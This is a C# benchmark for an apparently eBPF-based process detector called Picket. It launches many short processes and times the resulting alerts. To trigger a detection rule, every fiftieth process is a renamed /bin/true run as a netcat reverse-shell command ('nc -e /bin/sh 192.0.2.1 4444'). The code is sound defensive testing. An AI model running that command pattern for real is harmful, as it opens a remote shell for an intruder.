using System.Diagnostics;
using System.Globalization;
using Picket.Node.Bench.Sensors;
using Picket.Node.Demo;

namespace Picket.Bench.Storm;

/// <summary>
/// Starts <c>picket run</c> as a child, lets a shell start short processes as fast as it can, some of which match a rule,
/// and reads the alert file as another process would. Prints what came, how late, and what it cost.
/// </summary>
internal static class StormBench
{
    private const int MatchEvery = 50;
    private const string MatchTool = "nc";
    private const string MatchArguments = "-e /bin/sh 192.0.2.1 4444";
    private static readonly TimeSpan Limit = TimeSpan.FromMinutes(5);

    /// <summary>Runs one storm and prints its figures as <c>name value</c> lines.</summary>
    public static async Task<int> RunAsync(string[] arguments)
    {
        var processes = int.Parse(Value(arguments, "--processes") ?? "20000", CultureInfo.InvariantCulture);
        var program = Value(arguments, "--program") ?? Path.Combine(AppContext.BaseDirectory, "picket");
        var folder = Directory.CreateTempSubdirectory("picket-storm-").FullName;
        var pins = string.Create(CultureInfo.InvariantCulture, $"/sys/fs/bpf/picket-storm-{Environment.ProcessId}");
        try
        {
            return await RunAsync(processes, program, folder, pins);
        }
        finally
        {
            Directory.Delete(folder, true);
        }
    }

    private static async Task<int> RunAsync(int processes, string program, string folder, string pins)
    {
        var alerts = Path.Combine(folder, "alerts.ndjson");
        var start = new ProcessStartInfo(program) { RedirectStandardOutput = true };
        foreach (var argument in (string[])["run", "--alerts", alerts, "-o", $"node.data-dir={folder}/state", "-o", $"sensors.ebpf.pin-path={pins}",
            "-o", "alerts.console.enabled=false"])
        {
            start.ArgumentList.Add(argument);
        }

        using var node = Process.Start(start)!;
        while (await node.StandardOutput.ReadLineAsync() is { } line)
        {
            if (line.StartsWith(Picket.Node.CommandLine.RunCommand.ReadyLine, StringComparison.Ordinal)) break;
        }

        // One storm to warm up, as a service that has run for a minute is; the figures are of the second.
        await StormAsync(folder, processes / 4);
        using var reader = new LatencyReader(alerts);
        await reader.UntilQuietAsync();
        reader.Forget();
        var cpu = ProcessFigures.Cpu(node.Id);
        var clock = Stopwatch.StartNew();
        var storm = StormAsync(folder, processes);
        await reader.UntilAsync(storm, Limit);
        var seconds = clock.Elapsed.TotalSeconds;
        await reader.UntilQuietAsync();
        var used = ProcessFigures.Cpu(node.Id) - cpu;
        var rss = Rss(node.Id);
        Signals.Interrupt(node.Id);
        while (await node.StandardOutput.ReadLineAsync() is { } line) Console.WriteLine("# " + line);
        await node.WaitForExitAsync();

        var events = 3.0 * processes;
        Print("processes", processes);
        Print("processes_per_second", processes / seconds);
        Print("events_per_second", events / seconds);
        Print("cpu_seconds_per_million_events", used / events * 1e6);
        Print("rss_mib", rss / 1024.0);
        Print("alerts_expected", processes / MatchEvery);
        Print("alerts", reader.Count);
        Print("latency_ms_p50", reader.Percentile(0.50));
        Print("latency_ms_p99", reader.Percentile(0.99));
        Print("latency_ms_max", reader.Percentile(1.0));
        return reader.Count == processes / MatchEvery ? 0 : 1;
    }

    private static async Task StormAsync(string folder, int processes)
    {
        foreach (var name in (string[])["quiet", MatchTool])
        {
            var file = Path.Combine(folder, name);
            if (!File.Exists(file)) File.Copy("/bin/true", file);
        }

        var script = string.Create(CultureInfo.InvariantCulture,
            $"i=1; while [ $i -le {processes} ]; do if [ $((i % {MatchEvery})) = 0 ]; then ./{MatchTool} {MatchArguments}; else ./quiet $i; fi; i=$((i+1)); done");
        using var shell = Process.Start(new ProcessStartInfo("/bin/sh") { ArgumentList = { "-c", script }, WorkingDirectory = folder })!;
        await shell.WaitForExitAsync();
    }

    private static double Rss(int pid)
    {
        var line = File.ReadLines($"/proc/{pid}/status").First(line => line.StartsWith("VmRSS:", StringComparison.Ordinal));
        return double.Parse(line.Split(' ', StringSplitOptions.RemoveEmptyEntries)[1], CultureInfo.InvariantCulture);
    }

    private static string? Value(string[] arguments, string name)
    {
        var at = Array.IndexOf(arguments, name);
        return at >= 0 && at + 1 < arguments.Length ? arguments[at + 1] : null;
    }

    private static void Print(string name, double value) => Console.WriteLine(string.Create(CultureInfo.InvariantCulture, $"{name} {value:0.###}"));
}
